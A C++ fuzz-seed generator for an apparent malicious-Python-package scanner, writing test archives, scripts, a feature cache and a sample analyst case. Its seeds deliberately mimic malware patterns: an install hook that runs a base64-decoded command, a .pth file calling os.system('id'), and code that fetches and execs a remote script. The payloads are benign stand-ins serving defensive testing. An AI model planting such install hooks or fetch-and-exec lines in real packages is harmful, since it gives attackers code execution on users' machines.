// Writes small valid inputs for every fuzz target under <dir>/<target>/: archives of each format built with
// libarchive's writer (test helper), Python scripts, a feature cache, a case file and a workspace. Nothing here comes
// from a real corpus. Usage: fuzz_seeds <dir>
#include "archive_builder.h"
#include "pipeline/feature_cache.h"

#ifdef MPH_FUZZ_CASEFILES
#include "case_file.h"
#include "workspace.h"

#include <QJsonDocument>
#endif

#include <cstdint>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

namespace fs = std::filesystem;
using mph::test::Format;

namespace {

void write(const fs::path &dir, const std::string &name, const std::string &bytes) {
    fs::create_directories(dir);
    std::ofstream(dir / name, std::ios::binary) << bytes;
}

const char *const kSetup = R"(import os
import base64 as b
from subprocess import Popen as P
from setuptools import setup
from setuptools.command.install import install

class Post(install):
    def run(self):
        install.run(self)
        P([b.b64decode('ZWNobw==').decode(), 'hi'])

def helper(x):
    return os.path.join(x, 'a')

setup(name='pkg', version='1.0', cmdclass={'install': Post})
)";

const char *const kPkgInfo = "Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n";

void packageSeeds(const fs::path &dir) {
    using mph::test::buildArchive;
    using mph::test::file;
    using mph::test::folder;
    const std::vector<mph::test::Entry> sdist = {folder("pkg-1.0/"), file("pkg-1.0/setup.py", kSetup),
                                                 file("pkg-1.0/PKG-INFO", kPkgInfo),
                                                 file("pkg-1.0/pkg/__init__.py", "import os\nos.getcwd()\n")};
    const std::vector<mph::test::Entry> wheel = {file("pkg/__init__.py", "from . import core\ncore.run()\n"),
                                                 file("pkg-1.0.dist-info/METADATA", kPkgInfo),
                                                 file("pkg.pth", "import os; os.system('id')\n")};
    const std::vector<mph::test::Entry> egg = {file("EGG-INFO/PKG-INFO", kPkgInfo),
                                               file("pkg/__init__.py", "print(1)\n")};
    // First byte: the fuzz target's option selector (bits 0-1 passphrases, bit 2 lowered caps, bits 3-4 file name).
    auto seed = [&](const std::string &name, std::uint8_t selector, const std::string &archive) {
        write(dir, name, std::string(1, static_cast<char>(selector)) + archive);
    };
    seed("sdist.tar.gz", 0x01, buildArchive(Format::TarGz, sdist));
    seed("sdist.tar.bz2", 0x00, buildArchive(Format::TarBz2, sdist));
    seed("sdist.tar.xz", 0x05, buildArchive(Format::TarXz, sdist));
    seed("sdist.tar", 0x01, buildArchive(Format::Tar, sdist));
    seed("sdist.zip", 0x11, buildArchive(Format::Zip, sdist));
    seed("wheel.whl", 0x09, buildArchive(Format::Zip, wheel));
    seed("wheel-stored.whl", 0x0c, buildArchive(Format::ZipStored, wheel));
    seed("egg.egg", 0x11, buildArchive(Format::Zip, egg));
    seed("encrypted-infected.zip", 0x01, buildArchive(Format::Zip, sdist, "infected"));
    seed("encrypted-second.zip", 0x02, buildArchive(Format::Zip, wheel, "infected"));
    seed("encrypted-secret.zip", 0x03, buildArchive(Format::Zip, sdist, "secret"));
    seed("encrypted-nopass.zip", 0x00, buildArchive(Format::Zip, egg, "infected"));
}

void scriptSeeds(const fs::path &dir) {
    write(dir, "setup.py", kSetup);
    write(dir, "py2.py", "import urllib2\nprint 'x'\nexec urllib2.urlopen('http://e').read()\n");
    write(dir, "dynamic.py",
          "__import__('os').system('id')\nimport importlib\nimportlib.import_module('socket')\n"
          "getattr(__import__('builtins'), 'exec')(compile('1', 'f', 'exec'))\n");
    write(dir, "classes.py",
          "class A:\n    def f(self):\n        return self.g()\n    def g(self):\n"
          "        return self.f()\n\n@decorate(open('x'))\ndef h(a=len([])):\n"
          "    with open(a) as f:\n        for x in f: yield x.strip()\n"
          "A().f()\nlambda: h()\n[z.decode() for z in h()]\n");
    write(dir, "broken.py", "import os\ndef f(:\n  os.system('x'\nf()\n'''unterminated\n");
    write(dir, "strings.py", "x = b'\\x00' * 3 + r'\\n' + f'{os.name!r:>10}'\neval(x)\n# comment os.system()\n");
}

void cacheSeed(const fs::path &dir) {
    mph::FeatureCache cache;
    for (int i = 0; i < 2; ++i) {
        mph::PackageFeatures features;
        features.package.name = "pkg" + std::to_string(i);
        features.package.version = "1.0";
        features.package.format = i == 0 ? mph::PackageFormat::Tar : mph::PackageFormat::Wheel;
        features.package.bytes = 1234;
        mph::Script script;
        script.path = i == 0 ? "pkg-1.0/setup.py" : "pkg/__init__.py";
        script.scope = i == 0 ? mph::Scope::Install : mph::Scope::Import;
        script.sha256 = std::string(64, static_cast<char>('a' + i));
        features.package.scripts.push_back(script);
        mph::CallSequence sequence;
        sequence.calls = {{"os.system", 10, 19}, {"request.urlopen", 30, 45}};
        sequence.errorNodes = i;
        features.sequences.push_back(sequence);
        cache.insert(std::string(64, static_cast<char>('0' + i)), features);
    }
    fs::create_directories(dir);
    std::string problem;
    if (!cache.save(dir / "cache.bin", problem)) std::fprintf(stderr, "%s\n", problem.c_str());
}

#ifdef MPH_FUZZ_CASEFILES
mph::app::CaseFile sampleCase() {
    mph::app::CaseFile c;
    c.name = "pkg";
    c.version = "1.0";
    c.archivePath = "/batch/pkg-1.0.tar.gz";
    c.archiveSha256 = QString(64, QLatin1Char('a'));
    c.scriptPath = "pkg-1.0/setup.py";
    c.scriptSha256 = QString(64, QLatin1Char('b'));
    c.scope = "install";
    c.score = 0.75;
    c.dB = 0.5;
    c.dM = 0.25;
    c.cluster = 3;
    c.rank = 1;
    c.batchName = "monday";
    c.nearestKnown = {{"evil", "0.1", "/known/evil.zip", "evil/setup.py", QString(64, QLatin1Char('c'))}};
    c.verdict = mph::app::Verdict::Suspicious;
    c.notes = "posts the hostname";
    c.tags = {"exfiltration", "cmdclass"};
    c.evidence = {{"pkg-1.0/setup.py", 3, 5, "Popen of a decoded string"}};
    c.analyst = "ana";
    c.created = QDateTime::fromString("2026-11-24T10:00:00Z", Qt::ISODate);
    c.modified = QDateTime::fromString("2026-11-24T11:30:00Z", Qt::ISODate);
    return c;
}

void caseSeeds(const fs::path &caseDir, const fs::path &workspaceDir) {
    const mph::app::CaseFile c = sampleCase();
    write(caseDir, "case.mphcase", QJsonDocument(mph::app::caseToJson(c)).toJson().toStdString());
    mph::app::Workspace w;
    w.inputs.batches = {{"monday", {"/batch/monday"}}};
    w.inputs.background = {"/bg"};
    w.inputs.known = {"/known"};
    w.inputs.passphrases = {"infected", "other"};
    w.cases = {c};
    w.view.insert("splitter", 3);
    write(workspaceDir, "workspace.mphworkspace", QJsonDocument(mph::app::workspaceToJson(w)).toJson().toStdString());
    w.storePassphrases = true;
    w.cases.clear();
    write(workspaceDir, "stored.mphworkspace", QJsonDocument(mph::app::workspaceToJson(w)).toJson().toStdString());
}
#endif

} // namespace

int main(int argc, char **argv) {
    if (argc != 2) {
        std::fprintf(stderr, "usage: fuzz_seeds <dir>\n");
        return 2;
    }
    const fs::path root = argv[1];
    packageSeeds(root / "fuzz_package_reader");
    scriptSeeds(root / "fuzz_script_analysis");
    cacheSeed(root / "fuzz_feature_cache");
#ifdef MPH_FUZZ_CASEFILES
    caseSeeds(root / "fuzz_case_file", root / "fuzz_workspace");
#endif
    return 0;
}
